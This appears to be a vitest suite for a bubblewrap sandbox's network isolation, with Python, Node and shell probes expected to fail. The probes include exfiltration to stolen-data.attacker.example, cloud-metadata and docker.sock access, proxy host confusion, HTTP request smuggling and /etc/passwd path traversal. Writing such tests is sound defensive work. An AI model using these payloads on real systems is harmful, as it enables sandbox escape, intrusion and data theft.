import { createSocket } from "node:dgram";
import { once } from "node:events";
import { readdirSync } from "node:fs";
import { createServer as createHttpServer, type IncomingHttpHeaders } from "node:http";
import { type AddressInfo, createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { openRegistryGateway } from "../../src/features/programs/packages/registry-gateway.ts";
import { openBubblewrap } from "../../src/sandbox/bubblewrap/testing/open-bubblewrap.ts";
import { openWays } from "../../src/sandbox/network/testing/open-ways.ts";
import { answerOf, attack, makeFolder, payload, pythonTries, SECRET } from "../box.ts";

async function listening(server: Server, at: string | number = 0): Promise<number> {
  if (typeof at === "string") server.listen(at);
  else server.listen(at, "127.0.0.1");
  await once(server, "listening");
  onTestFinished(() => void server.close());
  return (server.address() as AddressInfo).port;
}

describe("a box without hosts", () => {
  test("A80: no name is resolved and no packet leaves, in any language", async () => {
    const heard: string[] = [];
    const udp = createSocket("udp4", (message) => heard.push(message.toString()));
    udp.bind(0, "127.0.0.1");
    await once(udp, "listening");
    onTestFinished(() => void udp.close());
    const port = await listening(createServer((socket) => socket.end(SECRET)));
    const said = await answerOf<Record<string, string>>(
      payload.python(
        pythonTries({
          name: "return socket.getaddrinfo('example.com', 80)",
          long: `return socket.getaddrinfo('stolen-data.attacker.example', 80)`,
          resolver: "return open('/etc/resolv.conf').read()",
          udp: `return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('8.8.8.8', 53))`,
          udp6: `return socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'stolen', ('2001:4860:4860::8888', 53))`,
          broadcast:
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\nreturn s.sendto(b'x', ('255.255.255.255', 9))",
          multicast:
            "return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('224.0.0.251', 5353))",
          tcp: "return socket.create_connection(('1.1.1.1', 80), 2)",
          metadata: "return socket.create_connection(('169.254.169.254', 80), 2)",
          host: `return socket.create_connection(('127.0.0.1', ${port}), 2).recv(100)`,
          stub: "return socket.create_connection(('127.0.0.53', 53), 2)",
          ping: "return socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\x00' + bytes(14), ('1.1.1.1', 0))",
          sctp: "return socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(('1.1.1.1', 80))",
          interfaces:
            "return [name for _, name in socket.if_nameindex() if name != 'lo'] or open('/none')",
        }),
      ),
    );
    for (const [name, answer] of Object.entries(said)) {
      expect(`${name}: ${answer}`).toMatch(
        /: (gaierror|ENOENT|ENETUNREACH|EADDRNOTAVAIL|ECONNREFUSED|EACCES|EPERM|EPROTONOSUPPORT|-[2345]|\d+)$/,
      );
    }
    const script = `
const dns = require("node:dns"), dgram = require("node:dgram");
const resolver = new dns.Resolver({ timeout: 300, tries: 1 }); resolver.setServers(["127.0.0.1:${udp.address().port}"]);
resolver.resolve4("stolen.attacker.example", (error) => console.log(error.code));
dns.lookup("example.com", (error) => console.log(error.code));
dgram.createSocket("udp4").send("stolen", ${udp.address().port}, "127.0.0.1", function () { this.close?.(); });
fetch("http://127.0.0.1:${port}/").catch((error) => console.log(error.cause.code));
setTimeout(() => process.exit(), 800);`;
    const { stdout } = await attack(payload.javascript(script));
    expect(stdout).toContain("ECONNREFUSED");
    const shell = await attack(
      payload.shell(
        `curl -sS -m 2 http://example.com http://127.0.0.1:${port} http://1.1.1.1; true`,
      ),
    );
    expect(shell.stdout).toBe("");
    expect(heard).toEqual([]);
  });

  test("A51: no socket of the host is reached, by path or by name", async () => {
    const folder = makeFolder();
    const abstract = `\0capstan-box-${process.pid}`;
    const seen: string[] = [];
    const note = createServer((socket) =>
      socket.end(SECRET).on("data", (x) => seen.push(String(x))),
    );
    await listening(note, join(folder, "docker.sock"));
    await listening(
      createServer((socket) => socket.end(SECRET)),
      abstract,
    );
    const said = await answerOf<Record<string, string>>(
      payload.python(
        pythonTries({
          byPath: "s = socket.socket(socket.AF_UNIX)\nreturn s.connect('/data/docker.sock')",
          byName: `s = socket.socket(socket.AF_UNIX)\nreturn s.connect('\\0${abstract.slice(1)}')`,
          pair: "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\nreturn a.sendto(b'x', '/data/docker.sock')",
          rawPair:
            "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)\nreturn a.connect('/data/docker.sock')",
          streamPair:
            "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)\nreturn a.connect('/data/docker.sock')",
          packetPair:
            "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)\nreturn a.connect('/data/docker.sock')",
          reopened: "return os.open('/data/docker.sock', os.O_RDWR)",
          stdout: "return socket.socket(fileno=os.dup(1)).connect('/data/docker.sock')",
        }),
      ),
      {
        mounts: [{ source: folder, target: "/data", mode: "rw" }],
        env: { PATH: "/usr/bin:/bin", DOCKER_HOST: "unix:///data/docker.sock" },
      },
    );
    expect(Object.keys(said).filter((name) => said[name]?.startsWith("did"))).toEqual([]);
    expect(said).toMatchObject({ byPath: "EAFNOSUPPORT", byName: "EAFNOSUPPORT" });
    expect(said).toMatchObject({ pair: "EAFNOSUPPORT", rawPair: "EAFNOSUPPORT" });
    expect(seen).toEqual([]);
    const { stdout } = await attack(
      payload.shell(
        "ls -d /var/run /run/docker.sock /tmp/.X11-unix /run/nscd /run/dbus /run/user; env",
      ),
    );
    expect(stdout).not.toMatch(/sock|X11|SSH_AUTH|DISPLAY|DBUS/);
  });
});

/** A host that a box was given, one beside it that it was not, and what each heard. */
async function openHosts() {
  const heard: { url: string; headers: IncomingHttpHeaders }[] = [];
  const beside: string[] = [];
  const other = await listening(
    createHttpServer((request, response) => {
      beside.push(request.url ?? "");
      response.end(SECRET);
    }),
  );
  const given = await listening(
    createHttpServer((request, response) => {
      heard.push({ url: request.url ?? "", headers: request.headers });
      if (request.url === "/away") {
        response.writeHead(302, { location: `http://127.0.0.1:${other}/` }).end();
      } else response.end("granted");
    }),
  );
  const addresses = new Map([
    ["given.test", "127.0.0.1"],
    ["private.test", "10.1.2.3"],
  ]);
  const sandbox = openBubblewrap(
    openWays({
      allowHosts: [`given.test:${given}`],
      lookup: async (host) => [{ address: addresses.get(host) ?? "203.0.113.1", family: 4 }],
    }),
  );
  return { sandbox, given, other, heard, beside, hosts: [`given.test:${given}`, "private.test"] };
}

const ASK = `
import json, socket, sys
def ask(text):
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.sendall(text.encode("latin1"))
    s.settimeout(3)
    got = b""
    try:
        while True:
            part = s.recv(65536)
            if not part: break
            got += part
            if text.startswith("CONNECT") and b"\\r\\n\\r\\n" in got and b" 200 " in got.split(b"\\r\\n")[0]: break
    except OSError: pass
    return got.decode("latin1")
answers = {}
for name, text in json.load(sys.stdin).items():
    try: answers[name] = ask(text)
    except OSError as error: answers[name] = "error " + str(error)
print(json.dumps(answers))
`;

describe("a box with a host", () => {
  test("A77, A80: reaches that host at that port, and nothing else, whatever it writes", async () => {
    const { sandbox, given, other, heard, beside, hosts } = await openHosts();
    const host = `given.test:${given}`;
    const end = "Connection: close\r\n\r\n";
    const requests = {
      absolute: `GET http://${host}/ok HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      connect: `CONNECT ${host} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      otherHeader: `GET http://${host}/header HTTP/1.1\r\nHost: 127.0.0.1:${other}\r\n${end}`,
      otherPort: `CONNECT given.test:${other} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      otherPortAbsolute: `GET http://given.test:${other}/ HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      literal: `CONNECT 127.0.0.1:${given} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      literalAbsolute: `GET http://127.0.0.1:${given}/ HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      short: `GET http://127.1:${other}/ HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      sixth: `GET http://[::ffff:127.0.0.1]:${other}/ HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      metadata: `GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      itself: `GET http://127.0.0.1:3128/ HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n${end}`,
      privateHost: `GET http://private.test/ HTTP/1.1\r\nHost: private.test\r\n${end}`,
      user: `GET http://${host}@127.0.0.1:${other}/ HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      connectUser: `CONNECT ${host}@127.0.0.1:${other} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      connectPath: `CONNECT 127.0.0.1:${other}/${host} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      connectHash: `CONNECT 127.0.0.1:${other}#${host} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      backslash: `GET http://127.0.0.1:${other}\\@${host}/ HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      suffix: `CONNECT given.test.evil.io:${given} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      prefix: `CONNECT evil-given.test:${given} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      origin: `GET / HTTP/1.1\r\nHost: 127.0.0.1:${other}\r\n${end}`,
      file: `GET file:///etc/passwd HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      https: `GET https://${host}/ HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      star: `OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1:${other}\r\n${end}`,
      lineBreak: `GET http://${host}/\rx HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      noBytes: `GET http://${host}/\0x HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      smuggled: `POST http://${host}/smuggled HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:${other}/ HTTP/1.1\r\nHost: x\r\n\r\n`,
      twoLengths: `POST http://${host}/lengths HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\nGET /`,
      garbage: "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n",
      pipelined: `GET http://${host}/first HTTP/1.1\r\nHost: ${host}\r\n\r\nGET http://127.0.0.1:${other}/ HTTP/1.1\r\nHost: ${host}\r\n${end}`,
      upgrade: `GET http://${host}/upgrade HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
    };
    const said = await answerOf<Record<keyof typeof requests, string>>(payload.python(ASK), {
      sandbox,
      network: { hosts },
      stdin: Buffer.from(JSON.stringify(requests)),
      limits: { wallMs: 60_000 },
    });
    const { absolute, connect, otherHeader, pipelined, upgrade, ...refused } = said;
    expect(absolute).toMatch(/^HTTP\/1.1 200[\s\S]*granted/);
    expect(connect).toMatch(/^HTTP\/1.1 200/);
    expect(otherHeader).toMatch(/^HTTP\/1.1 200/);
    expect(pipelined).toMatch(/^HTTP\/1.1 200[\s\S]*granted/);
    expect(pipelined.match(/HTTP\/1.1 200/g)).toHaveLength(1);
    expect(upgrade).not.toMatch(/^HTTP\/1.1 101/);
    for (const [name, answer] of Object.entries(refused)) {
      expect(`${name}: ${answer.slice(0, 12)}`).toMatch(/: (HTTP\/1.1 40[03]|)$/);
    }
    expect(beside).toEqual([]);
    expect(new Set(heard.map(({ headers }) => headers.host))).toEqual(new Set([host]));
    expect(heard.map(({ url }) => url).filter((url) => url.includes("smuggled"))).toEqual([]);
  });

  test("A75, A80: follows no redirect away, resolves no name by itself, opens no way around", async () => {
    const { sandbox, given, other, beside, hosts } = await openHosts();
    const options = { sandbox, network: { hosts }, limits: { wallMs: 30_000 } };
    const { stdout } = await attack(
      payload.shell(
        `curl -sS -L -m 5 http://given.test:${given}/away; curl -sS -m 5 http://given.test:${given}/ok; curl -sS --noproxy '*' -m 2 http://127.0.0.1:${other}; curl -sS --noproxy '*' -m 2 http://given.test:${given}/; true`,
      ),
      options,
    );
    expect(stdout).toMatch(/was not given the host "127\.0\.0\.1:\d+"\.\ngranted$/);
    const said = await answerOf<Record<string, string>>(
      payload.python(
        pythonTries({
          name: "return socket.getaddrinfo('given.test', 80)",
          direct: `return socket.create_connection(('127.0.0.1', ${given}), 2)`,
          udp: "return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
          abstract: "s = socket.socket(socket.AF_UNIX)\nreturn s.connect('\\0/tmp/.X11-unix/X0')",
          docker: "s = socket.socket(socket.AF_UNIX)\nreturn s.connect('/var/run/docker.sock')",
          proxyRemoved: "return os.unlink('/run/capstan/proxy/socket')",
        }),
      ),
      options,
    );
    expect(Object.keys(said).filter((name) => said[name]?.startsWith("did"))).toEqual([]);
    const node = await attack(
      payload.javascript(
        `fetch("http://given.test:${given}/ok").then((r) => r.text()).then(console.log).then(() => fetch("http://other.test:${other}/")).then((r) => console.log(r.status), () => console.log("failed"))`,
      ),
      options,
    );
    expect(node.stdout).toMatch(/^granted\n(?:403|failed)\n$/);
    expect(beside).toEqual([]);
  });

  test("A78: a host that answers with nonsense harms neither the box nor us", async () => {
    const answers = [
      "HTTP/1.1 000 Zero\r\n\r\n",
      "HTTP/1.1 099 Low\r\ncontent-length: 0\r\n\r\n",
      "HTTP/1.1 101 Switching\r\nconnection: upgrade\r\nupgrade: x\r\n\r\n",
      "HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\nshort",
      "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n",
      "HTTP/1.1 200 OK\r\nx: \u00ff\u0080\r\ncontent-length: 0\r\n\r\n",
      "HTTP/1.1 204 None\r\ncontent-length: 5\r\n\r\nhello",
      "nonsense",
      "",
    ];
    let turn = 0;
    const port = await listening(
      createServer((socket) => {
        socket.on("error", () => {});
        socket.once("data", () => {
          socket.write(Buffer.from(answers[turn++] ?? "", "latin1"));
          setTimeout(() => socket.resetAndDestroy(), 20);
        });
      }),
    );
    const place = `given.test:${port}`;
    const sandbox = openBubblewrap(
      openWays({
        allowHosts: [place],
        lookup: async () => [{ address: "127.0.0.1", family: 4 }],
      }),
    );
    const request = `GET http://${place}/ HTTP/1.1\r\nHost: ${place}\r\nConnection: close\r\n\r\n`;
    const said = await answerOf<Record<string, string>>(payload.python(ASK), {
      sandbox,
      network: { hosts: [place] },
      stdin: Buffer.from(JSON.stringify(Object.fromEntries(answers.map((_, n) => [n, request])))),
      limits: { wallMs: 60_000 },
    });
    expect(Object.keys(said)).toHaveLength(answers.length);
    expect(turn).toBe(answers.length);
  });

  test("A44: the way out is closed with the box", async () => {
    const { sandbox, hosts } = await openHosts();
    const ways = () => readdirSync(tmpdir()).filter((name) => name.startsWith("capstan-proxy-"));
    const before = new Set(ways());
    await attack(payload.shell("sleep 60"), {
      sandbox,
      network: { hosts },
      limits: { wallMs: 300 },
    });
    expect(ways().filter((name) => !before.has(name))).toEqual([]);
  });
});

describe("a box with a registry", () => {
  test("F10: reads that registry by name, and reaches nothing else, whatever it writes", async () => {
    const { sandbox, other, beside } = await openHosts();
    const found: string[] = [];
    const gateway = await openRegistryGateway(async (path) => {
      found.push(path);
      return path === "/words" ? { type: "text/plain", body: "of the registry" } : undefined;
    });
    onTestFinished(() => gateway.close());
    const end = "Host: 127.0.0.1:3128\r\nConnection: close\r\n\r\n";
    const requests = {
      page: `GET /words HTTP/1.1\r\n${end}`,
      missing: `GET /other HTTP/1.1\r\n${end}`,
      absolute: `GET http://127.0.0.1:${other}/ HTTP/1.1\r\n${end}`,
      connect: `CONNECT 127.0.0.1:${other} HTTP/1.1\r\n${end}`,
      post: `POST /words HTTP/1.1\r\nContent-Length: 1\r\n${end}x`,
      put: `PUT /-/npm/v1/tokens HTTP/1.1\r\nContent-Length: 0\r\n${end}`,
      climbing: `GET /../../etc/passwd HTTP/1.1\r\n${end}`,
      broken: `GET /%ff%fe HTTP/1.1\r\n${end}`,
    };
    const { stdout, stderr } = await attack(payload.python(ASK), {
      sandbox,
      network: { socket: gateway.socket },
      stdin: Buffer.from(JSON.stringify(requests)),
    });
    expect(stderr).toBe("");
    const said: Record<string, string> = JSON.parse(stdout);
    expect(said.page).toContain("of the registry");
    for (const [name, answer] of Object.entries(said)) {
      if (name !== "page") expect(`${name}: ${answer}`).toMatch(/: (?:$|HTTP\/1.1 40\d)/);
    }
    expect(found.filter((path) => path === "/words")).toHaveLength(1);
    const tries = pythonTries({
      host: `return socket.create_connection(('127.0.0.1', ${other}), 2).recv(100)`,
      name: "return socket.getaddrinfo('example.com', 80)",
      away: "return socket.create_connection(('1.1.1.1', 80), 2)",
    });
    const way = { sandbox, network: { socket: gateway.socket } };
    const reached = await answerOf<Record<string, string>>(payload.python(tries), way);
    expect(Object.keys(reached).filter((name) => reached[name]?.startsWith("did"))).toEqual([]);
    expect(beside).toEqual([]);
  });
});
